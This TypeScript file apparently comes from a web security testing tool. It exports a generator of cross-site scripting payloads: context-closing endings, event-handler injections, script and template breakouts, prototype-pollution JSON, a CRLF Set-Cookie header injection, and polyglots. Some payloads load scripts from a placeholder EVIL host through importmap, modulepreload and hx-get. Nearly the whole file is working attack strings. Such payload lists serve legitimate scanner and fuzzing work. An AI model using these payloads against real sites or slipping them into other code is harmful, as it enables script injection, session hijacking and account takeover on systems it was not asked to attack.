import { EVIL, HIT, HIT_ABOVE } from './marks.ts';

const IMAGE = `<img src=x onerror=${HIT}>`;

/** What ends the place that a text is written into, whichever that is. */
const ENDINGS = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</script\t>',
  '</SCRIPT/x>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</amp-story-page>',
  '&quot;&gt;',
  '%22%3E',
  '\\"></script>',
  '\u2028',
  '\u2029',
  '${',
  '{{',
  '\\',
  '\r\n\r\n',
  '%0d%0aSet-Cookie:x=1%0d%0a%0d%0a',
];

/** What goes on after the place has ended. */
const GOING_ON = [
  IMAGE,
  `<script>${HIT}</script>`,
  `<svg onload=${HIT}>`,
  ` autofocus onfocus=${HIT} tabindex=1 x="`,
  ` style=animation:x onanimationstart=${HIT} `,
];

/** Inside a script, where no element is needed. */
const IN_SCRIPTS: readonly string[] = [
  `';${HIT}//`,
  `";${HIT}//`,
  `\`;${HIT}//`,
  `\\';${HIT}//`,
  `\\\\";${HIT}//`,
  `'-${HIT}-'`,
  `"+${HIT}+"`,
  `\${${HIT}}`,
  `*/${HIT}/*`,
  `\n${HIT}\n`,
  `\u2028${HIT}\u2029`,
  `-->\n${HIT}\n<!--`,
  `<!--<script>${HIT}`,
  `<!--<script></script>--></script>${IMAGE}`,
  `"}]}</script>${IMAGE}`,
  `"},"__proto__":{"isAdmin":true},"x":{"y":"`,
  `{"__proto__":{"innerHTML":"${IMAGE.replaceAll('"', '')}"}}`,
  `);${HIT};//`,
  `callback=${HIT}//`,
  `{{constructor.constructor('${HIT}')()}}`,
  `{{[].pop.constructor('${HIT}')()}}`,
  `<%= ${HIT} %>`,
  `#{${HIT}}`,
  `[[${HIT}]]`,
  `<div v-html="'${IMAGE}'" x-init="${HIT}" ng-app ng-init="constructor.constructor('${HIT}')()"></div>`,
  `<div data-bind="html:'x',click:${HIT}" hx-on:load="${HIT}" hx-get="${EVIL}" hx-trigger=load></div>`,
  `<div data-remote=true data-url="${EVIL}" data-toggle=tooltip data-html=true title='${IMAGE}'>x</div>`,
  `<link rel=modulepreload href="${EVIL}/x.js"><script type=importmap>{"imports":{"a":"${EVIL}/x.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/"]}]}</script>`,
  `<template id=B:0></template><div hidden id=S:0>${IMAGE}</div><script>$RC("B:0","S:0")</script>`,
  `<script id=__NEXT_DATA__>{}</script><script>window.__reactRouterContext={}</script>`,
];

/** One text that is a program in many places at once. */
const POLYGLOTS: readonly string[] = [
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${HIT}//'>`,
  `'">><marquee>${IMAGE}</marquee></plaintext></|><plaintext/onmouseover=${HIT}>`,
  `\`'"><!--</noscript></title></template>--><svg onload=${HIT}>`,
  `*/;${HIT}/*" autofocus onfocus='${HIT}'><!--`,
  `"'--></style></script><iframe srcdoc="<script>${HIT_ABOVE}</script>">`,
  `%3Cimg%20src=x%20onerror=${HIT}%3E<img src=x onerror=${HIT}>&lt;img src=x onerror=${HIT}&gt;`,
];

/** Texts that end the place they are written into, for text, attributes, scripts, JSON and comments. */
export function writeBrokenFrames(): string[] {
  const endings = ENDINGS.flatMap((ending, row) =>
    GOING_ON.filter((_, column) => column < 2 || (row + column) % 3 === 0).map((next) => `${ending}${next}`),
  );
  return [...endings, ...IN_SCRIPTS, ...POLYGLOTS];
}
